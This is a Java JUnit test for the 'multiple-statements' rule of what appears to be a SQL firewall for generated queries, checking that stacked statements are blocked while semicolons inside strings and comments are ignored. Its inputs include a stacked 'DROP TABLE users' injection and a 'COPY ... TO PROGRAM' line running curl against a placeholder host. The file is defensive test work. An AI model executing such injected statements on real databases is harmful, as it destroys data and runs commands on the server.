package io.nlguard.guard.rules.firewall;

import static io.nlguard.guard.rules.firewall.Firewall.assertFires;
import static io.nlguard.guard.rules.firewall.Firewall.assertQuiet;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import io.nlguard.guard.rules.Finding;
import io.nlguard.guard.rules.Severity;

class MultipleStatementsRuleTest {

    private static final String RULE = "multiple-statements";

    @Test
    void stackedDropIsCitedAtTheSecondStatement() {
        Finding finding = assertFires(RULE, "SELECT * FROM users WHERE id = 1; DROP TABLE users", "Drop(DROP TABLE) at 1:35");
        assertEquals(Severity.BLOCK, finding.severity());
        assertEquals(-1, finding.nodeId());
    }

    @Test
    void worksOnStringsTheParserRejects() {
        String sql = "SELECT 1;\nCOPY t TO PROGRAM 'curl evil'";
        assertFalse(Firewall.parses(sql));
        assertFires(RULE, sql, "Command(COPY t TO PROGRAM 'curl evil') at 2:1");
    }

    @Test
    void everyExtraStatementIsReported() {
        assertEquals(2, Firewall.check(RULE, "SELECT 1; SELECT 2; SELECT 3").size());
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "SELECT 1;",
            "SELECT 1;;  ",
            "SELECT count(*) FROM singer; -- how many singers",
            "SELECT 'a;b', \"x;y\" FROM t /* ; */",
            "DO $$ BEGIN PERFORM 1; PERFORM 2; END $$",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT CASE WHEN true THEN 1 END; SELECT 2; END",
            "SELECT T1.name FROM singer AS T1 JOIN concert AS T2 ON T1.id = T2.sid WHERE T2.year = 2014"})
    void oneStatementWithSemicolonsInsideTokensIsFine(String sql) {
        assertQuiet(RULE, sql);
    }
}
